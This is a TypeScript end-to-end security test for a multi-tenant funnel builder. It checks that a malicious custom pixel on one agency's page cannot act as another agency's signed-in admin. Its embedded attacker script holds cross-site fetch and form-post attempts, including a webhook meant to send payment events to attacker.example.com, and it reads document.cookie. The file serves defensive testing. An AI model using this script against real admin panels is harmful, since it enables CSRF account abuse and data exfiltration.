import { test } from '@japa/runner'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { chromium, type Browser } from 'playwright'
import db from '@adonisjs/lucid/services/db'
import env from '#start/env'
import { freshDatabase } from '#tests/helpers/database'
import { createTenant } from '#tests/helpers/tenants'
import { FACTORY_PASSWORD } from '#database/factories/user_factory'
import { FunnelFactory } from '#database/factories/funnel_factory'
import { FunnelStepFactory } from '#database/factories/funnel_step_factory'
import { publish } from '#tests/helpers/publish'
import { TrackingPixelFactory } from '#database/factories/tracking_pixel_factory'
import { sanitizeSnippet } from '#actions/pixels/sanitize_snippet'

/**
 * Issue 11, item 3: agency B's funnel page, opened by agency A's owner while signed in to the
 * admin, runs a custom pixel script (an https `<script src>`, the one thing custom pixels allow)
 * that tries to act as that owner on the admin. Every call must be refused and nothing created.
 *
 * The hard case is tested: the funnel page and the admin are *same-site* (as in development,
 * or when funnels share the admin's registrable domain), so SameSite=Lax cookies do go along.
 * Chromium resolves `*.funil.test` to a local proxy that maps `admin.funil.test` to the admin
 * (Host `localhost`) and `{slug}.funil.test` to the workspace host (`{slug}.localhost`), exactly
 * as a reverse proxy would; the pixel's https URL is answered by Playwright with the attacker's
 * script (this machine has no certificate for it), which then runs in the funnel page's origin.
 */
const PIXEL_URL = 'https://pixel.attacker.test/steal.js'

/** Requests the proxy saw: who asked for what, with which cookie, and the answer. */
interface Seen {
  method: string
  host: string
  path: string
  origin?: string
  sessionCookie: boolean
  status: number
}

function startProxy(appPort: number) {
  const seen: Seen[] = []
  const server = http.createServer((request, response) => {
    const [name] = (request.headers.host ?? '').split(':')
    const upstreamHost =
      name === 'admin.funil.test'
        ? `localhost:${appPort}`
        : `${name.replace(/\.funil\.test$/, '.localhost')}:${appPort}`
    const upstream = http.request(
      {
        host: '127.0.0.1',
        port: appPort,
        method: request.method,
        path: request.url,
        headers: { ...request.headers, host: upstreamHost },
      },
      (answer) => {
        seen.push({
          method: request.method!,
          host: name,
          path: request.url!,
          origin: request.headers.origin,
          sessionCookie: /(^|;\s*)funil-session=/.test(request.headers.cookie ?? ''),
          status: answer.statusCode!,
        })
        response.writeHead(answer.statusCode!, answer.headers)
        answer.pipe(response)
      }
    )
    upstream.on('error', () => response.destroy())
    request.pipe(upstream)
  })
  return new Promise<{ server: http.Server; port: number; seen: Seen[] }>((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      resolve({ server, port: (server.address() as AddressInfo).port, seen })
    })
  })
}

/**
 * What the pixel does. Each attempt records what the page could observe; `done` marks the end.
 * Variants: with and without credentials, JSON (preflighted), "simple" requests (no-cors, sent
 * without asking), a bogus bearer header, and real form posts into a hidden frame.
 */
function attackerScript(admin: string, victimSlug: string) {
  return `
(async () => {
  const admin = ${JSON.stringify(admin)};
  const slug = ${JSON.stringify(victimSlug)};
  const hook = { name: 'exfil', url: 'https://attacker.example.com/in', events: ['payment.paid', 'lead.created'] };
  const results = [];
  async function attempt(name, url, init) {
    try {
      const r = await fetch(admin + url, init);
      let body = '';
      try { body = r.type === 'opaque' ? '' : await r.text(); } catch (e) {}
      results.push({ name, type: r.type, status: r.status, body: body.slice(0, 500) });
    } catch (e) {
      results.push({ name, error: String(e) });
    }
  }
  const json = { 'content-type': 'application/json' };
  await attempt('me with credentials', '/api/auth/me', { credentials: 'include' });
  await attempt('me without credentials', '/api/auth/me', { credentials: 'omit' });
  await attempt('me no-cors', '/api/auth/me', { credentials: 'include', mode: 'no-cors' });
  await attempt('funnels with credentials', '/api/funnels', { credentials: 'include', headers: { 'x-workspace': slug } });
  await attempt('funnels without credentials', '/api/funnels', { headers: { 'x-workspace': slug } });
  await attempt('funnels bogus bearer', '/api/funnels', { credentials: 'include', headers: { 'x-workspace': slug, authorization: 'Bearer bogus' } });
  await attempt('admin funnels page', '/w/' + slug + '/funnels', { credentials: 'include', headers: { 'x-inertia': 'true' } });
  await attempt('api webhook json with credentials', '/api/webhooks', { method: 'POST', credentials: 'include', headers: { ...json, 'x-workspace': slug }, body: JSON.stringify(hook) });
  await attempt('api webhook no-cors', '/api/webhooks', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(hook) });
  await attempt('api webhook without credentials', '/api/webhooks', { method: 'POST', headers: { ...json, 'x-workspace': slug }, body: JSON.stringify(hook) });
  await attempt('admin webhook json', '/w/' + slug + '/webhooks', { method: 'POST', credentials: 'include', headers: json, body: JSON.stringify(hook) });
  await attempt('admin webhook no-cors', '/w/' + slug + '/webhooks', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'name=exfil&url=https%3A%2F%2Fattacker.example.com%2Fin&events%5B%5D=payment.paid' });
  await attempt('admin webhook bogus bearer', '/w/' + slug + '/webhooks', { method: 'POST', credentials: 'include', headers: { ...json, authorization: 'Bearer bogus' }, body: JSON.stringify(hook) });
  await attempt('transmit subscribe no-cors', '/__transmit/subscribe', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ uid: 'x', channel: 'workspaces/1' }) });

  /** Real form posts (a frame navigation carries Lax cookies same-site). */
  async function formPost(name, action, fields) {
    const frame = document.createElement('iframe');
    frame.name = 'sink-' + name.replace(/\\W/g, '');
    document.body.appendChild(frame);
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = admin + action;
    form.target = frame.name;
    for (const [key, value] of fields) {
      const input = document.createElement('input');
      input.name = key; input.value = value; form.appendChild(input);
    }
    document.body.appendChild(form);
    await new Promise((resolve) => { frame.onload = resolve; form.submit(); setTimeout(resolve, 5000); });
    results.push({ name, submitted: true });
  }
  const fields = [['name', 'exfil'], ['url', 'https://attacker.example.com/in'], ['events[]', 'payment.paid']];
  await formPost('admin form post', '/w/' + slug + '/webhooks', fields);
  await formPost('api form post', '/api/webhooks', fields);

  results.push({ name: 'document.cookie', cookie: document.cookie });
  window.__attack = results;
})();
`
}

test.group('Security: a funnel pixel attacks the signed-in admin (Chromium)', (group) => {
  freshDatabase(group)

  let browser: Browser
  group.setup(async () => {
    browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
      headless: true,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--host-resolver-rules=MAP *.funil.test 127.0.0.1',
      ],
    })
    return () => browser.close()
  })

  test('every call is refused and nothing is created', async ({ assert }) => {
    const victim = await createTenant({ workspaceSlug: 'agencia-a' })
    const attacker = await createTenant({ workspaceSlug: 'agencia-b' })
    const funnel = await FunnelFactory.merge({
      workspaceId: attacker.workspace.id,
      slug: 'oferta',
    }).create()
    await FunnelStepFactory.merge({
      workspaceId: attacker.workspace.id,
      funnelId: funnel.id,
      slug: 'inscricao',
      orderIndex: 0,
      content: { headline: 'Aula grátis', fields: ['name', 'email'], buttonLabel: 'Quero' },
    }).create()
    await publish(funnel)
    const snippet = sanitizeSnippet(`<script async src="${PIXEL_URL}">alert(1)</script>`)
    assert.equal(snippet, `<script async src="${PIXEL_URL}"></script>`)
    await TrackingPixelFactory.merge({
      workspaceId: attacker.workspace.id,
      funnelId: funnel.id,
      pixelType: 'custom',
      pixelId: 'custom',
      settings: { snippet },
    }).create()

    const proxy = await startProxy(Number(env.get('PORT', 3334)))
    const admin = `http://admin.funil.test:${proxy.port}`
    const funnelPage = `http://agencia-b.funil.test:${proxy.port}/oferta`
    const context = await browser.newContext({ locale: 'pt-BR' })
    try {
      await context.route(PIXEL_URL, (route) =>
        route.fulfill({
          status: 200,
          contentType: 'application/javascript',
          body: attackerScript(admin, victim.workspace.slug),
        })
      )

      /** Agency A's owner signs in to the admin, for real. */
      const adminPage = await context.newPage()
      await adminPage.goto(`${admin}/login`)
      await adminPage.locator('[data-test="login-email"]').fill(victim.owner.email)
      await adminPage.locator('[data-test="login-password"]').fill(FACTORY_PASSWORD)
      await adminPage.locator('[data-test="login-submit"]').click()
      await adminPage.waitForURL('**/w/agencia-a/dashboard')

      /** …and opens agency B's funnel page in another tab. */
      const page = await context.newPage()
      await page.goto(funnelPage)
      await page.locator('h1', { hasText: 'Aula grátis' }).waitFor()
      await page.waitForFunction('window.__attack !== undefined', null, { timeout: 60_000 })
      const results: any[] = await page.evaluate('window.__attack')
      const byName = Object.fromEntries(results.map((r) => [r.name, r]))
      if (process.env.DEBUG_ATTACK)
        console.log(JSON.stringify({ results, seen: proxy.seen }, null, 1))

      /** The pixel really ran in the funnel's origin, and the admin cookie really went along. */
      const fromPixel = proxy.seen.filter(
        (r) =>
          r.host === 'admin.funil.test' && r.origin === `http://agencia-b.funil.test:${proxy.port}`
      )
      assert.isAbove(fromPixel.length, 5, JSON.stringify(proxy.seen, null, 1))
      assert.isTrue(
        fromPixel.some((r) => r.sessionCookie),
        'same-site: the browser attached the admin session cookie'
      )
      assert.isTrue(
        proxy.seen.some((r) => r.method === 'POST' && r.sessionCookie && r.origin === 'null') ||
          proxy.seen.some((r) => r.method === 'POST' && r.sessionCookie),
        'the form posts reached the admin with the cookie'
      )

      /** Nothing the page could read holds the victim's data. */
      const everything = JSON.stringify(results)
      assert.notInclude(everything, victim.owner.email)
      assert.notInclude(everything, '"agencia-a"')
      assert.notInclude(byName['document.cookie'].cookie, 'funil-session')
      assert.notInclude(byName['document.cookie'].cookie, 'XSRF-TOKEN')

      /** What the page can read is a refusal (or the browser blocked the read). */
      for (const result of results) {
        if (typeof result.status === 'number' && result.type !== 'opaque') {
          assert.oneOf(result.status, [400, 401, 403, 404], JSON.stringify(result))
        }
      }
      assert.equal(byName['me without credentials'].status, 401)

      /** On the server: no /api call was authenticated, no write went through. */
      for (const request of proxy.seen.filter((r) => r.path.startsWith('/api/'))) {
        assert.isAtLeast(request.status, 400, JSON.stringify(request))
      }
      const writes = fromPixel.filter((r) => r.method === 'POST')
      for (const request of writes) {
        assert.notInclude([200, 201, 204], request.status, JSON.stringify(request))
      }
      const [{ count }] = await db.from('webhook_endpoints').count('* as count')
      assert.equal(Number(count), 0, 'no webhook was created anywhere')

      /** Control: the admin tab still works and can create a webhook itself (CSRF token). */
      await adminPage.goto(`${admin}/w/agencia-a/webhooks`)
      /** Run in the admin's page (a string: this file is not compiled with the DOM types). */
      const created = await adminPage.evaluate(`(async () => {
        const cookie = document.cookie.split('; ').find((c) => c.startsWith('XSRF-TOKEN='))
        const response = await fetch('/w/agencia-a/webhooks', {
          method: 'POST',
          redirect: 'manual',
          headers: {
            'content-type': 'application/json',
            'accept': 'application/json',
            'x-xsrf-token': decodeURIComponent(cookie.slice('XSRF-TOKEN='.length)),
          },
          body: JSON.stringify({ name: 'CRM', url: 'https://crm.example.com/in', events: ['payment.paid'] }),
        })
        return response.type === 'opaqueredirect' ? 302 : response.status
      })()`)
      assert.oneOf(created, [200, 302])
      const [{ count: after }] = await db.from('webhook_endpoints').count('* as count')
      assert.equal(Number(after), 1)

      /**
       * The admin's CSP, enforced by Chromium: an injected inline script does not run, one
       * carrying the page's nonce does (the nonce is the only way in).
       */
      const csp = await adminPage.evaluate(`(() => {
        const inject = (nonce) => {
          const script = document.createElement('script')
          if (nonce) script.nonce = nonce
          script.textContent = 'window.__ran = (window.__ran || 0) + 1'
          document.head.appendChild(script)
        }
        inject(null)
        const withoutNonce = window.__ran ?? 0
        inject(document.querySelector('script[nonce]')?.nonce || 'none')
        return { withoutNonce, withNonce: (window.__ran ?? 0) - withoutNonce }
      })()`)
      assert.deepEqual(csp, { withoutNonce: 0, withNonce: 1 })
    } finally {
      await context.close()
      proxy.server.close()
    }
  }).timeout(120_000)
})
